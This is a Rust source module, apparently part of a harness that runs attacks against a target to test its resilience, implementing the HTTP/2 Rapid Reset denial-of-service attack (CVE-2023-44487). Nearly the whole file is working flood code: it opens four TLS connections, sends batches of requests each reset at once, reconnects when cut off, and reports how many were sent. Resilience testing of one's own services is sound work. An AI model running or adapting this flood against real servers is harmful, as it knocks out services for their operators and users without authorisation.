//! Rapid reset (CVE-2023-44487): requests that are taken back at once cost only the other side.

use super::{Attack, source};
use crate::frames::{Frames, Heads, Then};
use crate::scene::{Seen, Stage};
use crate::stranger::{Connection, tls};
use anyhow::Result;
use std::io;
use std::time::Duration;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep};

pub(super) const ATTACK: Attack = Attack {
    name: "rapid-reset",
    about: "requests that are reset at once, on 4 connections, each opened anew when it is ended",
    waits: false,
    run: |stage| Box::pin(run(stage)),
};

const CONNECTIONS: u8 = 4;
const BATCH: u32 = 200;
/// Requests of one connection.
const MOST: u32 = 100_000;
const PAUSE: Duration = Duration::from_millis(100);

async fn run(stage: Stage) -> Result<Seen> {
    let scene = stage.coordinator().await?;
    let address = scene.target.address();
    let until = Instant::now() + stage.either(Duration::from_secs(5), Duration::from_secs(30));
    scene
        .judge(async move {
            let mut floods = JoinSet::new();
            for number in 0..CONNECTIONS {
                floods.spawn(async move {
                    let (mut sent, mut connections) = (0, 0);
                    while Instant::now() < until {
                        if let Ok(stream) = tls(address, source(1 + number)).await {
                            connections += 1;
                            let _ = reset(stream, until, &mut sent).await;
                        }
                        sleep(PAUSE).await;
                    }
                    (sent, connections)
                });
            }
            let all = floods.join_all().await;
            let sent: u32 = all.iter().map(|(sent, _)| sent).sum();
            let connections: u32 = all.iter().map(|(_, connections)| connections).sum();
            Ok(Seen::saw(format!("{sent} requests were sent and reset on {connections} connections")))
        })
        .await
}

async fn reset(stream: Box<dyn crate::stranger::Stream>, until: Instant, sent: &mut u32) -> io::Result<()> {
    let connection = Connection::open(stream, &[]).await?;
    let mut heads = Heads::of("/mesh.v1.Membership/Challenge");
    let mut stream = 1;
    while stream < 2 * MOST && Instant::now() < until && !connection.is_over() {
        let mut frames = Frames::default();
        for _ in 0..BATCH {
            frames = frames.request(stream, &heads.next(), Then::More).reset(stream);
            stream += 2;
        }
        connection.send(&frames).await?;
        *sent += BATCH;
    }
    Ok(())
}
